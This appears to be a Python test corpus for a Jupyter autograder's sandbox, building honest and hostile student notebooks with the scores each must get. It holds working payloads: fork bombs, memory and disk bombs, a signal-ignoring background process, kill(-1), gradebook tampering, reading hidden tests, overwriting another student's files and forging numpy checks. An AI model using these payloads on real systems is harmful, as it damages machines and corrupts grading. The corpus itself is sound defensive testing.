"""One hostile or broken submission per case, plus honest students, with the score each must get.

Every case is one small function registered with :func:`case`.  It builds
its submission from the real lessons (``solutions/``: the source notebook,
its released version, ``bugs.json``, ``references.json``) and returns a
:class:`Built`: the files of the submitted folder and the **expected score,
computed from the case definition** (full marks, minus the grade cells its
planted bug fails according to ``bugs.json``, minus the grade cells placed
after the cell where the kernel dies or the notebook time limit is hit),
never copied from a grading run.  Its docstring says what the submission does
and why that score is the honest one.

The principle behind every expected score (issue 6): whatever a submission
does, it earns exactly the points that its *honest* code earns.  So a case
that tries to forge a check carries a planted bug from ``bugs.json`` as well:
the forgery must not win back the points that bug loses.  A grade cell that
runs after the kernel died or the notebook ran out of time earns nothing (its
code never ran); every other grade cell earns what the student's functions
deserve.

``notes`` are the grader's note codes (``grader/pipeline/notes.py``) that the case
must produce; ``allowed`` are codes it may produce besides.  Any other code
is a failure, and honest students must have no note at all.  Grade cells run
in the grader's checker, never in the kernel, and their outputs are written
by the checker: no submission can produce ``tampering`` (two results in a
grade cell) or ``stderr`` (a grade cell's stderr) any more, and delegation to
course_lib is not a note but a failed check (the lesson's course_lib answers
raise ``ReferenceUnavailable`` in the grading kernel).

Safety interlocks.  A few payloads would damage the machine if the grader
ran them unconfined as root (fork bomb, ``kill(-1)``, memory bomb, disk
filler, writes into ``course_lib``).  Those payloads first check that the
kernel *is* confined (not root, finite rlimits, target not writable) and
otherwise raise an error containing :data:`INTERLOCK` instead of attacking;
the test fails on that marker.  A confined kernel always attacks for real.
Payloads print :data:`SUCCESS_MARKER` (built at run time, so it never
appears in a cell's source) when an attack step got through.
"""
from __future__ import annotations

import copy
import hashlib
import json
import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from grader.pipeline.course import find_lessons
from grader.pipeline.deps import failing_grade_cells
from grader.pipeline.regions import secret_lines
from grader.pipeline.sample_class import LessonData, load_lesson
from grader.pipeline.submissions import complete, grade_id, structure, with_bug, with_stubs

L01, L02, L04 = "01_scalar_backprop", "02_general_case", "04_modules"

#: Printed by a payload when one of its attack steps worked (never appears literally in a source).
SUCCESS_MARKER = "ATTACK-SUCCEEDED"
#: In the error a dangerous payload raises instead of attacking an unconfined kernel.
INTERLOCK = "test-corpus safety interlock"
#: Seconds the background process of ``h07_background_process`` waits after its kernel died.
BACKGROUND_DELAY = 10
#: What the trap file holds before the run (``h07_background_process`` must not change it).
TRAP_TEXT = "written by the test before the run; no grading process may change this file\n"
#: The honest student whose files ``h14_edit_other_student`` attacks.
VICTIM = "ok02_complete"


# ------------------------------------------------------------------ the registry
@dataclass
class Built:
    """A built submission: ``files`` of its folder and the score it must get."""

    files: dict  # path relative to the submitted folder -> bytes, or Symlink
    expected: float


@dataclass(frozen=True)
class Symlink:
    """A symbolic link in the submitted folder."""

    target: str


@dataclass(frozen=True)
class Case:
    name: str  # the student id
    lesson: str
    build: Callable[[Context], Built]
    notes: frozenset = frozenset()
    allowed: frozenset = frozenset()
    honest: bool = False

    @property
    def why(self) -> str:
        return textwrap.dedent(self.build.__doc__ or "").strip()


CASES: list[Case] = []


def case(lesson: str, notes=(), allowed=(), honest: bool = False):
    """Register the decorated builder as a case; the student id is the function's name."""

    def register(fn):
        CASES.append(Case(fn.__name__, lesson, fn, frozenset(notes), frozenset(allowed), honest))
        return fn

    return register


# ------------------------------------------------------------------ building blocks
class Context:
    """What the builders need: the lessons, the course directory, paths the payloads attack."""

    def __init__(self, course: Path, solutions: Path, trap: Path, repo: Path):
        self.course = Path(course)
        self.solutions = Path(solutions)
        self.trap = Path(trap)  # world-writable folder of the background-process case
        self.repo = Path(repo)
        self.lessons: dict[str, LessonData] = {}
        self.references: dict[str, list[dict]] = {}
        for lesson in find_lessons(self.solutions):
            released = self.course / "lessons" / lesson.name / f"{lesson.name}.ipynb"
            self.lessons[lesson.name] = load_lesson(lesson, released)
            refs = lesson.folder / "references.json"
            self.references[lesson.name] = json.loads(refs.read_text()) if refs.exists() else []

    # --- notebooks
    def complete(self, lesson: str):
        """The released lesson with every exercise answered (the solution, as a student types it)."""
        data = self.lessons[lesson]
        return complete(data.source, data.released)

    def bug(self, lesson: str, exercise: str):
        """A complete submission with the planted bug of ``exercise`` (bugs.json)."""
        return with_bug(self.complete(lesson), self.bug_entry(lesson, exercise))

    def bug_entry(self, lesson: str, exercise: str) -> dict:
        for bug in self.lessons[lesson].bugs:
            if bug["exercise"] == exercise:
                return bug
        raise KeyError(f"{lesson}: no planted bug for exercise {exercise!r} in bugs.json")

    # --- expected scores, from the source notebook's structure
    def points(self, lesson: str) -> dict[str, float]:
        """Grade cell id -> points, in notebook order."""
        return structure(self.lessons[lesson].source).points

    def full(self, lesson: str) -> float:
        return sum(self.points(lesson).values())

    def minus(self, lesson: str, grade_ids) -> float:
        """Full marks minus the points of ``grade_ids``."""
        points = self.points(lesson)
        unknown = set(grade_ids) - set(points)
        assert not unknown, f"{lesson}: unknown grade cells {unknown}"
        return self.full(lesson) - sum(points[g] for g in set(grade_ids))

    def minus_bug(self, lesson: str, exercise: str) -> float:
        """Full marks minus the grade cells that the planted bug of ``exercise`` fails (bugs.json)."""
        return self.minus(lesson, self.bug_entry(lesson, exercise)["grade_ids"])

    def through(self, lesson: str, last_grade_id: str) -> float:
        """Points of the grade cells up to and including ``last_grade_id``, in notebook order.

        The score of a notebook whose kernel dies (or whose time runs out) in
        a cell placed right after ``last_grade_id``: the cells after it never run.
        """
        total = 0.0
        for gid, pts in self.points(lesson).items():
            total += pts
            if gid == last_grade_id:
                return total
        raise KeyError(f"{lesson}: no grade cell {last_grade_id!r}")

    def unanswered(self, lesson: str, exercises) -> float:
        """Full marks minus the grade cells that fail when ``exercises`` are not defined (grader.pipeline.deps)."""
        return self.minus(lesson, failing_grade_cells(self.lessons[lesson].source, set(exercises)))

    def delegated(self, lesson: str, exercise: str) -> float:
        """Full marks minus the grade cells of ``exercise`` listed in references.json."""
        for entry in self.references[lesson]:
            if entry["exercise"] == exercise:
                return self.minus(lesson, entry["grade_ids"])
        raise KeyError(f"{lesson}: {exercise!r} is not in references.json")

    # --- files
    def notebook(self, lesson: str, nb, expected: float, name: str | None = None) -> Built:
        """A submission made of one notebook (named like the lesson unless ``name``)."""
        return Built({name or f"{lesson}.ipynb": nb_bytes(nb)}, expected)

    def submitted(self, student: str, lesson: str) -> Path:
        return self.course / "submitted" / student / lesson / f"{lesson}.ipynb"

    def autograded(self, student: str, lesson: str) -> Path:
        return self.course / "autograded" / student / lesson / f"{lesson}.ipynb"


def nb_bytes(nb) -> bytes:
    return (nbformat.writes(nb) + "\n").encode("utf-8")


def _index(nb, gid: str) -> int:
    for i, cell in enumerate(nb.cells):
        if grade_id(cell) == gid:
            return i
    raise KeyError(f"no cell with grade_id {gid!r}")


def code(source: str, **values) -> str:
    """Dedented payload source; ``@NAME@`` is replaced by ``repr(values[NAME])``.

    A line ``@OK@`` becomes the definition of ``ATTACK_OK`` (the success
    marker) and ``@INTERLOCK@`` an expression for :data:`INTERLOCK`; both are
    assembled at run time, so that no source (shown in tracebacks) contains them.
    """
    text = textwrap.dedent(source).strip("\n")
    text = text.replace("@OK@", 'ATTACK_OK = "ATTACK" + "-SUCCEEDED"')
    text = text.replace("@INTERLOCK@", '("test-corpus safety " + "interlock")')
    for key, value in values.items():
        text = text.replace(f"@{key}@", repr(value))
    left = re.findall(r"@[A-Z_]+@", text)
    assert not left, f"unfilled placeholders {left} in:\n{text}"
    return text


def insert_before(nb, gid: str, *sources: str):
    """``nb`` with new code cells just before the cell ``gid``."""
    nb = copy.deepcopy(nb)
    at = _index(nb, gid)
    nb.cells[at:at] = [new_code_cell(s) for s in sources]
    return nb


def insert_after(nb, gid: str, *sources: str):
    """``nb`` with new code cells just after the cell ``gid``."""
    nb = copy.deepcopy(nb)
    at = _index(nb, gid) + 1
    nb.cells[at:at] = [new_code_cell(s) for s in sources]
    return nb


def insert_after_imports(nb, *sources: str):
    """``nb`` with new code cells after its first code cell (the lesson's imports)."""
    nb = copy.deepcopy(nb)
    at = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    nb.cells[at:at] = [new_code_cell(s) for s in sources]
    return nb


def append_to(nb, gid: str, source: str):
    """``nb`` with ``source`` appended to the cell ``gid`` (a student's solution cell)."""
    nb = copy.deepcopy(nb)
    cell = nb.cells[_index(nb, gid)]
    cell.source = cell.source.rstrip("\n") + "\n\n\n" + textwrap.dedent(source).strip("\n") + "\n"
    return nb


def replace_in(nb, gid: str, old: str, new: str):
    nb = copy.deepcopy(nb)
    cell = nb.cells[_index(nb, gid)]
    assert cell.source.count(old) == 1, f"{gid}: expected {old!r} once"
    cell.source = cell.source.replace(old, new)
    return nb


# ================================================================== honest students
@case(L02, honest=True)
def ok02_complete(ctx):
    """Lesson 02 with every exercise answered: full marks. Also the victim of h14_edit_other_student."""
    return ctx.notebook(L02, ctx.complete(L02), ctx.full(L02))


@case(L01, honest=True)
def ok01_complete(ctx):
    """Lesson 01 with every exercise answered: full marks."""
    return ctx.notebook(L01, ctx.complete(L01), ctx.full(L01))


@case(L04, honest=True)
def ok04_complete(ctx):
    """Lesson 04 with every exercise answered: full marks."""
    return ctx.notebook(L04, ctx.complete(L04), ctx.full(L04))


@case(L02, honest=True)
def ok02_bug_backward(ctx):
    """Lesson 02 with the planted mlp_backward bug (grad_b not summed): loses test_mlp_backward."""
    return ctx.notebook(L02, ctx.bug(L02, "mlp_backward"), ctx.minus_bug(L02, "mlp_backward"))


@case(L01, honest=True)
def ok01_bug_chain(ctx):
    """Lesson 01 with the planted chain bug (phi' at the output): loses test_chain."""
    return ctx.notebook(L01, ctx.bug(L01, "chain"), ctx.minus_bug(L01, "chain"))


@case(L04, honest=True)
def ok04_bug_sgd(ctx):
    """Lesson 04 with the planted SGD bug (rebinds p instead of updating in place): loses test_sgd."""
    return ctx.notebook(L04, ctx.bug(L04, "sgd"), ctx.minus_bug(L04, "sgd"))


#: A scratch cell of an honest student: a small thread pool and a shell command (``!echo``).  It needs a
#: few processes and threads of the grading user, so it fails if an earlier notebook graded under the
#: same user left processes (or zombies) behind that still count against the process limit.
THREADS_AND_SHELL = """\
from concurrent.futures import ThreadPoolExecutor

with ThreadPoolExecutor(max_workers=8) as pool:
    sweep = list(pool.map(lambda lr: round(lr * 2, 3), [0.01, 0.03, 0.1, 0.3, 1.0, 3.0, 10.0, 30.0]))
print("sweep done", sweep)
!echo shell ok"""


@case(L01, honest=True)
def ok01_threads_shell(ctx):
    """Lesson 01 complete, plus a scratch cell with a thread pool and a shell command: full marks.

    Its cell must run (``sweep done``, ``shell ok``) whoever was graded before it on the same worker.
    """
    return ctx.notebook(L01, insert_after_imports(ctx.complete(L01), THREADS_AND_SHELL), ctx.full(L01))


@case(L02, honest=True)
def ok02_threads_shell(ctx):
    """Lesson 02 complete, plus a scratch cell with a thread pool and a shell command: full marks.

    Its cell must run (``sweep done``, ``shell ok``) whoever was graded before it on the same worker.
    """
    return ctx.notebook(L02, insert_after_imports(ctx.complete(L02), THREADS_AND_SHELL), ctx.full(L02))


@case(L04, honest=True)
def ok04_threads_shell(ctx):
    """Lesson 04 complete, plus a scratch cell with a thread pool and a shell command: full marks.

    Its cell must run (``sweep done``, ``shell ok``) whoever was graded before it on the same worker.
    """
    return ctx.notebook(L04, insert_after_imports(ctx.complete(L04), THREADS_AND_SHELL), ctx.full(L04))


@case(L02, honest=True)
def ok02_partial(ctx):
    """Lesson 02 with mse_grad and mlp_backward left as released: the grade cells that use them score 0 (grader.pipeline.deps)."""
    data = ctx.lessons[L02]
    nb = with_stubs(ctx.complete(L02), data.released, ["mse_grad", "mlp_backward"])
    return ctx.notebook(L02, nb, ctx.unanswered(L02, ["mse_grad", "mlp_backward"]))


# ================================================================== broken code
@case(L02)
def h01_syntax_error(ctx):
    """A syntax error in the mse_grad solution (an unclosed bracket) and in a scratch cell.

    mse_grad is never defined, exactly as if it were not answered: the grade
    cells that use it score 0 (grader.pipeline.deps), every other one full.
    """
    nb = replace_in(ctx.complete(L02), "mse_grad", "return residual / y_hat.shape[0]",
                    "return residual / y_hat.shape[0")
    nb = insert_after_imports(nb, 'print("where is my bracket"')
    return ctx.notebook(L02, nb, ctx.unanswered(L02, ["mse_grad"]))


@case(L01, allowed={"cell-timeout"})
def h02_exception(ctx):
    """Scratch cells that raise: an exception whose message itself raises, and endless recursion.

    Errors outside grade cells change nothing: full marks.  (IPython may
    take longer than the cell limit to format the ~3000-frame traceback of the
    RecursionError on a loaded machine; the cell is then interrupted, which
    changes nothing either, hence ``cell-timeout`` is allowed.)
    """
    nb = insert_before(ctx.complete(L01), "test_node_ops", code('''
        class Sneaky(Exception):
            def __str__(self):
                raise RuntimeError("even my message is broken")

        raise Sneaky()
    '''), code('''
        def forever(n):
            return forever(n + 1)

        forever(0)
    '''))
    return ctx.notebook(L01, nb, ctx.full(L01))


# ================================================================== time
@case(L02, notes={"cell-timeout"})
def h03_infinite_loop(ctx):
    """``while True: pass`` in one scratch cell after test_mlp_forward.

    The cell is interrupted at the per-cell limit, the kernel lives on and
    grades the rest: full marks.
    """
    nb = insert_after(ctx.complete(L02), "test_mlp_forward", "while True:\n    pass")
    return ctx.notebook(L02, nb, ctx.full(L02))


#: Cells of ``time.sleep(SLEEP_SECONDS)`` in h04: more than the notebook limit in total, each below the cell limit.
SLEEP_CELLS, SLEEP_SECONDS = 12, 8


@case(L02, notes={"notebook-timeout"}, allowed={"kernel-died", "processes-killed"})
def h04_notebook_timeout(ctx):
    """Twelve cells of ``time.sleep(8)`` right after test_mse_loss (96 s > the 60 s notebook limit).

    Each cell is under the 15 s cell limit; the notebook limit stops the
    kernel during the sleeps.  The grade cells before them (test_mlp_forward,
    test_mse_loss) ran and keep their points; the ones after never ran.
    """
    nb = insert_after(ctx.complete(L02), "test_mse_loss",
                      *[f"import time\ntime.sleep({SLEEP_SECONDS})"] * SLEEP_CELLS)
    return ctx.notebook(L02, nb, ctx.through(L02, "test_mse_loss"))


# ================================================================== resources
@case(L01, allowed={"cell-timeout"})  # a loaded machine may need longer than the cell limit to fill the memory
def h05_memory_bomb(ctx):
    """A scratch cell that allocates (and writes) 256 MiB blocks until the memory limit refuses.

    The bomb runs inside a function that drops its blocks on the way out, so
    the kernel survives with its memory back; the MemoryError is an error in
    a scratch cell: full marks.
    """
    nb = insert_after_imports(ctx.complete(L01), code('''
        import resource

        import numpy as np


        def memory_bomb():
            soft = resource.getrlimit(resource.RLIMIT_AS)[0]
            if soft == resource.RLIM_INFINITY or soft > 8 * 2**30:
                raise RuntimeError(@INTERLOCK@ + ": no address-space limit; the memory bomb was not set off")
            blocks = []
            try:
                while True:
                    blocks.append(np.ones(2**25))  # 256 MiB, every page written
            finally:
                count = len(blocks)
                blocks.clear()
                print(f"allocated {count} blocks of 256 MiB before the allocator refused")


        memory_bomb()
    '''))
    return ctx.notebook(L01, nb, ctx.full(L01))


def fork_bomb_notebook(ctx, new_sessions: bool):
    """Lesson 02, complete, with a fork bomb after the imports (children call ``setsid()`` if ``new_sessions``)."""
    bomb = code('''
        import os
        import resource
        import time


        def fork_bomb():
            soft = resource.getrlimit(resource.RLIMIT_NPROC)[0]
            if os.geteuid() == 0 or soft == resource.RLIM_INFINITY or soft > 4096:
                raise RuntimeError(@INTERLOCK@ + ": the kernel is root or has no process limit; no fork bomb")
            while True:
                if os.fork() == 0:  # in the kernel: raises at the process cap, and this cell errors
                    try:
                        if @NEW_SESSIONS@:
                            os.setsid()
                        while True:  # a child never leaves this loop
                            try:
                                os.fork()
                            except BaseException:
                                time.sleep(3600)
                    except BaseException:
                        pass
                    finally:
                        os._exit(0)


        fork_bomb()
    ''', NEW_SESSIONS=bool(new_sessions))
    nb = insert_after_imports(ctx.complete(L02), bomb)
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, notes={"processes-killed"})
def h06_fork_bomb(ctx):
    """A fork bomb after the imports: every child forks forever and sleeps when refused, never returning.

    The kernel's own fork fails at the process cap, so that cell errors; the
    kernel grades the rest (full marks) and the children are killed after
    the notebook.
    """
    return fork_bomb_notebook(ctx, new_sessions=False)


@case(L02, notes={"processes-killed"})
def h06_fork_bomb_new_sessions(ctx):
    """The same fork bomb, but every child first calls ``setsid()``: killing the kernel's process group
    does not reach them, only killing everything of the grading user does.

    The kernel's own fork fails at the process cap; the kernel grades the
    rest (full marks) and the children are killed after the notebook.
    (Graded right after h06_fork_bomb, usually by the other worker: the
    notebooks after these two show whether what a fork bomb leaves behind
    still counts against the process limit of the next student.)
    """
    return fork_bomb_notebook(ctx, new_sessions=True)


@case(L02, notes={"processes-killed"})
def h07_background_process(ctx):
    """A double-forked, setsid'd process that ignores SIGTERM/SIGHUP, waits until its kernel is gone,
    sleeps BACKGROUND_DELAY seconds and then writes files: a world-writable trap file, a new file in a
    world-writable folder, this student's submission and the victim's.

    It must be killed after the notebook, so nothing is ever written.  The
    notebook itself is complete: full marks.
    """
    targets = [
        str(ctx.trap / "existing.txt"),
        str(ctx.trap / "created-by-background-process.txt"),
        str(ctx.submitted("h07_background_process", L02)),
        str(ctx.submitted(VICTIM, L02)),
        str(ctx.autograded(VICTIM, L02)),
    ]
    nb = insert_after_imports(ctx.complete(L02), code('''
        import os
        import signal
        import time

        TARGETS = @TARGETS@


        def outlive_the_kernel():
            kernel = os.getpid()
            pid = os.fork()
            if pid == 0:
                try:
                    os.setsid()
                    if os.fork() > 0:
                        os._exit(0)
                    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                        signal.signal(sig, signal.SIG_IGN)
                    while os.path.exists(f"/proc/{kernel}"):
                        time.sleep(0.2)
                    time.sleep(@DELAY@)
                    for path in TARGETS:
                        try:
                            with open(path, "a") as f:
                                f.write("written by a process that outlived its kernel\\n")
                        except BaseException:
                            pass
                except BaseException:
                    pass
                finally:
                    os._exit(0)
            os.waitpid(pid, 0)
            print("a background process is waiting for this kernel to end")


        outlive_the_kernel()
    ''', TARGETS=targets, DELAY=BACKGROUND_DELAY))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02)
def h08_file_too_large(ctx):
    """A scratch cell that writes a 1 GiB file in the working directory (a disk filler).

    The file-size limit stops the write with OSError (EFBIG) and the kernel
    lives on: full marks.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        import resource

        soft = resource.getrlimit(resource.RLIMIT_FSIZE)[0]
        if soft == resource.RLIM_INFINITY or soft > 2**30:
            raise RuntimeError(@INTERLOCK@ + ": no file-size limit; the disk filler was not started")
        block = bytes(16 << 20)
        with open("filler.bin", "wb") as f:
            for _ in range(64):
                f.write(block)
    '''))
    return ctx.notebook(L02, nb, ctx.full(L02))


# ================================================================== the kernel dies
@case(L02, notes={"kernel-died"}, allowed={"processes-killed"})
def h09_os_exit(ctx):
    """``os._exit(0)`` in a cell right after test_mse_loss: the kernel is gone.

    test_mlp_forward and test_mse_loss ran and keep their points; the grade
    cells after the exit never ran and score 0.
    """
    nb = insert_after(ctx.complete(L02), "test_mse_loss", "import os\nos._exit(0)")
    return ctx.notebook(L02, nb, ctx.through(L02, "test_mse_loss"))


@case(L02)
def h10_sys_exit(ctx):
    """``sys.exit(3)`` and ``raise SystemExit`` in scratch cells before test_mse_grad.

    IPython turns SystemExit into an error of that cell; the kernel lives:
    full marks.
    """
    nb = insert_before(ctx.complete(L02), "test_mse_grad", "import sys\nsys.exit(3)",
                       'raise SystemExit("done for today")')
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L04, notes={"kernel-died"}, allowed={"processes-killed"})
def h11_segfault(ctx):
    """``ctypes.string_at(0)`` (a segmentation fault) in a cell right after test_tanh of lesson 04.

    test_linear and test_tanh ran and keep their points; every later grade
    cell never ran and scores 0.
    """
    nb = insert_after(ctx.complete(L04), "test_tanh", "import ctypes\nctypes.string_at(0)")
    return ctx.notebook(L04, nb, ctx.through(L04, "test_tanh"))


@case(L02, notes={"kernel-died"}, allowed={"processes-killed"})
def h12_kill_everything(ctx):
    """Right after test_mse_grad: ``os.kill(-1, SIGKILL)`` (every process the kernel's user may signal,
    except itself on Linux), then SIGKILL to its own process group (the kernel itself).

    As an unprivileged grading user that reaches only its own processes: no
    worker, zygote or other student's kernel (their scores are checked by
    their own cases).  The grade cells up to test_mse_grad keep their
    points; test_mlp_backward never runs.
    """
    nb = insert_after(ctx.complete(L02), "test_mse_grad", code('''
        import os
        import signal

        if os.geteuid() == 0:
            raise RuntimeError(@INTERLOCK@ + ": the kernel runs as root; kill(-1) was not sent")
        os.kill(-1, signal.SIGKILL)
        os.killpg(os.getpgid(0), signal.SIGKILL)
    '''))
    return ctx.notebook(L02, nb, ctx.through(L02, "test_mse_grad"))


# ================================================================== files it must not touch or read
@case(L02)
def h13_gradebook_write(ctx):
    """With the planted mse_grad bug, a cell before test_mse_grad that opens the gradebook (and the
    workers' shards) by absolute path to set every grade's manual score to 100, create a table, append
    garbage and delete it.

    Every attempt fails (the course is unreadable to the kernel); the
    submission loses exactly test_mse_grad to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mse_grad"), "test_mse_grad", code('''
        import glob
        import os
        import sqlite3

        COURSE = @COURSE@
        @OK@
        paths = [COURSE + "/gradebook.db"] + [f"{COURSE}/.grader/shards/worker-{i}.db" for i in range(4)]
        paths += glob.glob(COURSE + "/.grader/shards/*.db")
        for path in paths:
            try:
                con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
                con.execute("CREATE TABLE pwned (x)")
                con.execute("UPDATE grade SET manual_score = 100")
                con.commit()
                print(ATTACK_OK, "sql", path)
            except Exception as exc:
                print(f"sql refused: {path}: {type(exc).__name__}: {exc}")
            try:
                with open(path, "ab") as f:
                    f.write(b"garbage")
                print(ATTACK_OK, "append", path)
            except Exception as exc:
                print(f"append refused: {path}: {type(exc).__name__}")
        try:
            os.remove(COURSE + "/gradebook.db")
            print(ATTACK_OK, "remove")
        except Exception as exc:
            print(f"remove refused: {type(exc).__name__}")
    ''', COURSE=str(ctx.course)))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_grad"))


@case(L02)
def h14_edit_other_student(ctx):
    """A complete submission plus a cell that reads (to copy its answers), overwrites, chmods and
    deletes another student's submitted and autograded notebooks (absolute paths).

    Every attempt fails; the victim (ok02_complete) keeps full marks and its
    file's bytes; this submission is complete: full marks.
    """
    victim = [str(ctx.submitted(VICTIM, L02)), str(ctx.autograded(VICTIM, L02))]
    nb = insert_before(ctx.complete(L02), "test_mse_loss", code('''
        import os
        import shutil

        VICTIM_FILES = @VICTIM@
        @OK@
        for path in VICTIM_FILES:
            for label, attack in [
                ("read", lambda: len(open(path).read())),
                ("overwrite", lambda: open(path, "w").write('{"cells": []}')),
                ("chmod", lambda: os.chmod(path, 0o666)),
                ("remove", lambda: os.remove(path)),
                ("remove folder", lambda: shutil.rmtree(os.path.dirname(path))),
            ]:
                try:
                    attack()
                    print(ATTACK_OK, label, path)
                except Exception as exc:
                    print(f"{label} refused: {path}: {type(exc).__name__}")
    ''', VICTIM=victim))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02)
def h15_edit_course_lib(ctx):
    """With the planted mlp_forward bug (no bias), a cell before test_mlp_forward that tries to make the
    reference agree with the bug: append to the installed course_lib (and grader.checks) files, add a
    module there, and shadow the package from the working directory after deleting it from sys.modules.

    Installed files are read-only and the checks keep the real reference:
    the submission loses exactly test_mlp_forward to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mlp_forward"), "test_mlp_forward", code('''
        import importlib
        import os
        import sys

        import course_lib

        try:
            import grader.checks
            CHECKS = [grader.checks.__file__]
        except ImportError as exc:
            print(f"grader.checks is not importable here: {exc}")
            CHECKS = []

        @OK@
        PATCH = "\\n\\ndef mlp_forward(*args, **kwargs):\\n    raise SystemExit('course_lib was edited by a student')\\n"
        lib = os.path.dirname(course_lib.__file__)
        for path in [os.path.join(lib, "mlp.py"), os.path.join(lib, "__init__.py"), *CHECKS]:
            if os.geteuid() == 0 or os.access(path, os.W_OK):
                print(@INTERLOCK@ + ": the kernel could write", path, "- not touching it")
                continue
            try:
                with open(path, "a") as f:
                    f.write(PATCH)
                print(ATTACK_OK, "edited", path)
            except Exception as exc:
                print(f"edit refused: {path}: {type(exc).__name__}")
        try:
            if os.geteuid() == 0 or os.access(lib, os.W_OK):
                print(@INTERLOCK@ + ": the kernel could write into", lib)
            else:
                with open(os.path.join(lib, "sitecustomize.py"), "w") as f:
                    f.write("import os\\n")
                print(ATTACK_OK, "new module in course_lib")
        except Exception as exc:
            print(f"new module refused: {type(exc).__name__}")

        # a course_lib in the working directory whose mlp_forward forgets the bias, like mine
        os.makedirs("course_lib", exist_ok=True)
        open("course_lib/__init__.py", "w").close()
        with open("course_lib/mlp.py", "w") as f:
            f.write(
                "import numpy as np\\n"
                "_PHI = {'sigmoid': lambda z: 1 / (1 + np.exp(-z)), 'tanh': np.tanh,\\n"
                "        'relu': lambda z: np.maximum(z, 0), 'identity': lambda z: z}\\n"
                "def mlp_forward(X, Ws, bs, activation='sigmoid'):\\n"
                "    names = [activation] * len(Ws) if isinstance(activation, str) else list(activation)\\n"
                "    A, Z = [np.asarray(X, dtype=float)], []\\n"
                "    for W, name in zip(Ws, names):\\n"
                "        Z.append(A[-1] @ W)\\n"
                "        A.append(_PHI[name](Z[-1]))\\n"
                "    return A[-1], {'A': A, 'Z': Z, 'activations': names}\\n"
            )
        sys.path.insert(0, os.getcwd())
        for name in [m for m in sys.modules if m == "course_lib" or m.startswith("course_lib.")]:
            del sys.modules[name]
        importlib.invalidate_caches()
        import course_lib.mlp
        print("course_lib now comes from", course_lib.mlp.__file__)
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mlp_forward"))


@case(L02)
def h16_read_hidden_tests(ctx):
    """A complete submission plus a cell that reads the hidden tests from disk: the course's copy of
    the source notebook, the repository's solutions/ and its git history, and the gradebook (which
    stores the grade cells' source), printing whatever it gets; the last read is left uncaught.

    Every read fails with PermissionError, nothing hidden reaches any
    output, and the submission is complete: full marks.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        import subprocess

        SECRETS = @SECRETS@
        @OK@
        for path in SECRETS:
            try:
                with open(path, "rb") as f:
                    data = f.read()
                print(ATTACK_OK, "read", path)
                print(data.decode("utf-8", "replace"))
            except Exception as exc:
                print(f"{path}: {type(exc).__name__}: {exc}")
        try:
            out = subprocess.run(["git", "-C", @REPO@, "show", @GIT_PATH@],
                                 capture_output=True, text=True, timeout=10)
            if out.returncode == 0:
                print(ATTACK_OK, "git show")
                print(out.stdout)
            else:
                print("git show refused:", out.stderr.strip()[-300:])
        except Exception as exc:
            print(f"git refused: {type(exc).__name__}")
        open(SECRETS[0]).read()
    ''', SECRETS=[
        str(ctx.course / "solutions" / L02 / f"{L02}.ipynb"),
        str(ctx.repo / "solutions" / L02 / f"{L02}.ipynb"),
        str(ctx.solutions / L02 / f"{L02}.ipynb"),
        str(ctx.course / "gradebook.db"),
    ], REPO=str(ctx.repo), GIT_PATH=f"HEAD:solutions/{L02}/{L02}.ipynb"))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"repaired"})
def h17_symlinks(ctx):
    """A complete submission that hands in symbolic links to the hidden tests and the gradebook
    (``hidden.ipynb``, ``grades.db``, ``repo_solution.ipynb``) and a cell that reads them.

    The grader must not follow them as root: nothing hidden reaches an
    output or the autograded folder; the notebook is complete: full marks.
    """
    links = {
        "hidden.ipynb": Symlink(str(ctx.course / "solutions" / L02 / f"{L02}.ipynb")),
        "grades.db": Symlink(str(ctx.course / "gradebook.db")),
        "repo_solution.ipynb": Symlink(str(ctx.repo / "solutions" / L02 / f"{L02}.ipynb")),
    }
    nb = insert_after_imports(ctx.complete(L02), code('''
        @OK@
        for name in @NAMES@:
            try:
                with open(name, "rb") as f:
                    data = f.read()
                print(ATTACK_OK, "read", name, len(data))
                print(data.decode("utf-8", "replace"))
            except Exception as exc:
                print(f"{name}: {type(exc).__name__}: {exc}")
    ''', NAMES=sorted(links)))
    built = ctx.notebook(L02, nb, ctx.full(L02))
    built.files.update(links)
    return built


# ================================================================== forging the checks
@case(L02)
def h18_patch_allclose(ctx):
    """With the planted mse_loss bug (no 1/2), a cell right before test_mse_loss replacing np.allclose,
    np.isclose and np.array_equal with "always equal".

    The checks do not use the replaced functions: the submission loses
    exactly test_mse_loss to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mse_loss"), "test_mse_loss", code('''
        import numpy

        numpy.allclose = np.allclose = lambda *args, **kwargs: True
        numpy.isclose = np.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, bool)
        numpy.array_equal = np.array_equal = lambda *args, **kwargs: True
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_loss"))


@case(L02)
def h19_patch_assert_allclose(ctx):
    """With the planted mse_grad bug (no 1/B), mse_grad itself replaces np.testing.assert_allclose and
    friends with no-ops each time it is called (so while the check runs).

    The checks do not rely on numpy.testing: the submission loses exactly
    test_mse_grad to its bug (and a check that sees the patch scores 0 too).
    """
    nb = append_to(ctx.bug(L02, "mse_grad"), "mse_grad", '''
        _mse_grad_honest = mse_grad


        def mse_grad(y_hat, y):
            """My mse_grad; numpy's assertions are switched off while it is checked."""
            import numpy.testing
            numpy.testing.assert_allclose = lambda *args, **kwargs: None
            numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
            numpy.testing.assert_array_equal = lambda *args, **kwargs: None
            return _mse_grad_honest(y_hat, y)
    ''')
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_grad"))


@case(L02)
